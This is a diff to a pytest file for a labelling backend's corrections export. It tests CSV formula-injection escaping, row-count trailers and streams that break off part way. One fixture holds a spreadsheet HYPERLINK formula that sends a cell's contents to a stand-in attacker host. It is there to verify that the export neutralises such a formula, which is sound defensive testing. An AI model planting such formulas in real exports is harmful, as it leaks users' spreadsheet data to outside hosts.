@@ -8,6 +8,7 @@ import csv
 import io
 import json
 import os
+import sqlite3
 import subprocess
 import sys
 from datetime import datetime, timezone
@@ -25,11 +26,12 @@ from backend.export import (
     correction_rows,
     export_corrections,
     parse_since,
+    spreadsheet_safe,
     summary,
 )
 from backend.feedback import entries_from_webhook, prediction_entry
 from backend.server import create_app
-from backend.store import embedding_key
+from backend.store import BULK_READ, embedding_key
 from backend.store.redis import RedisStore
 from backend.store.sqlite import SqliteStore
 
@@ -217,6 +219,27 @@ def test_jsonl_and_csv_round_trip(store, tmp_path):
         assert cells["was_cancelled"] == json.dumps(row["was_cancelled"])
 
 
+@pytest.mark.parametrize("text", ["=1+2", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
+def test_csv_cells_that_could_start_a_formula_get_an_apostrophe(text):
+    assert spreadsheet_safe(text) == "'" + text
+    assert spreadsheet_safe("a=1") == "a=1" and spreadsheet_safe("") == ""
+
+
+def test_csv_neutralises_free_text_that_a_spreadsheet_would_run(store, tmp_path):
+    """OWASP's CSV injection: a cell starting with = + - @ (tab, CR) is written with a leading
+    apostrophe; numbers and JSON cells are left alone."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    event = annotated(31, 9, [choices("animal", "Cat")], day=9,
+                      snapshot={"model_version": "@SUM(1+1)", "result": [choices("animal", "Dog", score=0.5)]})
+    event["task"]["data"]["image"] = formula
+    webhook_into(store, event)
+    export_corrections(store, tmp_path / "c.csv", "csv")
+    with (tmp_path / "c.csv").open(newline="") as fp:
+        cells = next(row for row in csv.DictReader(fp) if row["annotation"] == "31")
+    assert cells["image_ref"] == "'" + formula and cells["model_version"] == "'@SUM(1+1)"
+    assert cells["final"] == '["Cat"]' and cells["task"] == "9" and cells["lead_time"] == "4.2"
+
+
 def test_parquet_round_trip_with_labels_as_paths(store, tmp_path):
     stream = io.BytesIO()
     export_corrections(store, stream, "parquet", project="4")
@@ -377,14 +400,18 @@ def test_http_exports_each_format_with_its_media_type_and_filename(served):
     response = get(served, "/export/corrections", project="4")
     assert response.status_code == 200 and response.headers["content-type"] == "application/x-ndjson"
     assert response.headers["content-disposition"] == 'attachment; filename="corrections-project-4.jsonl"'
-    rows = [json.loads(line) for line in response.text.splitlines()]
+    *lines, trailer = response.text.splitlines()
+    assert json.loads(trailer) == {"_export": {"complete": True, "rows": 3}}
+    rows = [json.loads(line) for line in lines]
     assert [(r["annotation"], r["status"], r["predicted"]) for r in rows] == [
         ("21", "changed", ["Dog"]), ("22", "accepted", ["Dog"]), ("23", "skipped", None)]
 
     response = get(served, "/export/corrections", format="csv", since="2026-11-02", only_changed="true")
     assert response.headers["content-type"].startswith("text/csv")
     assert 'filename="corrections.csv"' in response.headers["content-disposition"]
-    assert [r["annotation"] for r in csv.DictReader(io.StringIO(response.text))] == ["24"]
+    *lines, trailer = response.text.splitlines()
+    assert [r["annotation"] for r in csv.DictReader(lines)] == ["24"]
+    assert trailer.startswith("# ") and json.loads(trailer[2:]) == {"_export": {"complete": True, "rows": 1}}
 
     response = get(served, "/export/corrections", format="parquet", embeddings="true")
     assert response.headers["content-type"] == "application/vnd.apache.parquet"
@@ -410,3 +437,60 @@ def test_http_rejects_bad_parameters_with_422(served, params, message):
     response = get(served, "/export/corrections", **params)
     assert response.status_code == 422 and message in response.text
     assert get(served, "/export/summary", since="soon").status_code == 422
+
+
+# --- HTTP: every stream ends complete or visibly failed --------------------------------------
+MANY = 1200  # more rows than one read batch (BULK_READ), so later batches are read on other threads
+AUTH = ("exporter", "secret")  # every middleware in the path of the stream
+
+
+@pytest.fixture
+def many(tiny_settings):
+    settings = tiny_settings.model_copy(update={"BASIC_AUTH_USER": AUTH[0], "BASIC_AUTH_PASS": AUTH[1]})
+    with BackendThread(create_app(settings)) as server:
+        store = server.app.state.model.store
+        assert isinstance(store, SqliteStore)
+        for i in range(MANY):
+            webhook_into(store, annotated(1000 + i, i, [choices("animal", "Cat")], day=1))
+        yield server
+
+
+def many_get(server, **params) -> httpx.Response:
+    return httpx.get(server.url + "/export/corrections", params=params, auth=AUTH, timeout=120)
+
+
+def test_http_streams_every_row_then_a_trailer_with_the_count(many):
+    assert MANY > 2 * BULK_READ
+    expected = [str(1000 + i) for i in range(MANY)]
+    *lines, trailer = many_get(many).text.splitlines()
+    assert [json.loads(line)["annotation"] for line in lines] == expected
+    assert json.loads(trailer) == {"_export": {"complete": True, "rows": MANY}}
+
+    *lines, trailer = many_get(many, format="csv").text.splitlines()
+    assert [row["annotation"] for row in csv.DictReader(lines)] == expected
+    assert trailer.startswith("# ") and json.loads(trailer[2:]) == {"_export": {"complete": True, "rows": MANY}}
+
+    lines = many_get(many, trailer="false").text.splitlines()
+    assert [json.loads(line)["annotation"] for line in lines] == expected
+    assert pq.read_table(io.BytesIO(many_get(many, format="parquet").content)).num_rows == MANY
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
+def test_http_stream_that_fails_part_way_says_so_and_is_broken_off(many, fmt):
+    """A record the store cannot read, in the second batch: the rows before it arrive, then a
+    trailer saying the export is incomplete and why, then the transfer breaks off (no clean end
+    of the chunked body), so no client takes it for complete."""
+    with sqlite3.connect(many.app.state.model.store.path) as db:  # not valid UTF-8
+        db.execute("UPDATE corrections SET record = CAST(x'ff' AS TEXT) WHERE annotation = '1700'")
+    db.close()
+    lines: list[str] = []
+    with pytest.raises(httpx.RemoteProtocolError):
+        with httpx.stream("GET", many.url + "/export/corrections", params={"format": fmt, "trailer": "false"},
+                          auth=AUTH, timeout=120) as response:
+            assert response.status_code == 200
+            lines.extend(response.iter_lines())
+    *rows, trailer = lines
+    assert len(rows) == BULK_READ + (fmt == "csv")  # the CSV header
+    state = json.loads(trailer if fmt == "jsonl" else trailer.removeprefix("# "))["_export"]
+    assert state["complete"] is False and state["rows"] == BULK_READ
+    assert "embedded store" in state["error"] and "export again" in state["error"]
